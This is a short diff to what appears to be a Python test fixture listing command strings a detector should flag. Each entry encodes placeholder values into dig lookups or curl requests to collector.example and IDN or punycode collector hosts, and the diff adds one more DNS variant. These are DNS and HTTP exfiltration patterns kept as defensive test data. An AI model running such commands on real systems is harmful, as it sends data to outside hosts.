@@ -73,6 +73,7 @@ KEPT = {
     "idn tld": f"dig {P}.collector.\u0440\u0444",
     "punycode tld": f"dig {P}.collector.xn--p1ai",
     "label then dot": f"dig {E}-x.collector.example.",
+    "two placeholders": f"dig {E}{P}.collector.example.",
     # H4: a URL without a scheme whose host is written otherwise
     "root dot host": f"curl collector.example./c?u={P}",
     "idn label": f"curl \u043a\u043e\u043b\u043b\u0435\u043a\u0442\u043e\u0440.com/c?u={P}",
